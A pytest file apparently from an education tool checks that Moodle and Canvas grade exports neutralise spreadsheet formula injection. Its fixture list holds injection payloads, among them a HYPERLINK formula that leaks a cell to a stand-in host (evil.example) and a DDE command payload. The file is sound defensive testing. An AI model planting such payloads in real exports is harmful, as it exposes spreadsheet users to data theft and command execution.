"""The grade export writes no cell a spreadsheet would run as a formula (issue 31.6)."""

from __future__ import annotations

import csv
from types import SimpleNamespace

import pytest

from twentyone_edu.course.lms_export import CanvasExport, MoodleExport

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&C3,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+Jones", "-oscar@school.example", "\tTab", "\rReturn"]


class _Gradebook:
    """The two things an export asks of nbgrader's gradebook."""

    def __init__(self, students):
        self.students = students
        self.assignments = [SimpleNamespace(name="lessons04_05", max_score=11)]

    def find_submission(self, assignment, student):
        return SimpleNamespace(score=7.5, late_submission_penalty=0)


def _students():
    return [SimpleNamespace(id=f"s{i}", first_name=name, last_name=HOSTILE[-1 - i],
                            email=HOSTILE[(i + 3) % len(HOSTILE)])
            for i, name in enumerate(HOSTILE)]


@pytest.mark.parametrize("exporter", [MoodleExport, CanvasExport])
def test_no_cell_starts_a_formula(exporter, tmp_path):
    gradebook = _Gradebook(_students())
    out = tmp_path / "grades.csv"
    export = exporter()
    export.to, export.assignment, export.student = str(out), [], []
    export.export(gradebook)
    with open(out, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the names are kept, as text, and the points are still numbers
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&C3,\"Open\")" in " ".join(cells)
    assert "7.5" in cells


def test_an_honest_roster_is_written_as_it_is():
    student = SimpleNamespace(id="s017", first_name="Anna", last_name="Ivanova",
                              email="anna@school.example")
    rows = MoodleExport().rows(_Gradebook([student]), _Gradebook([]).assignments, [student])
    assert rows[1][:6] == ["Anna", "Ivanova", "s017", "", "", "anna@school.example"]
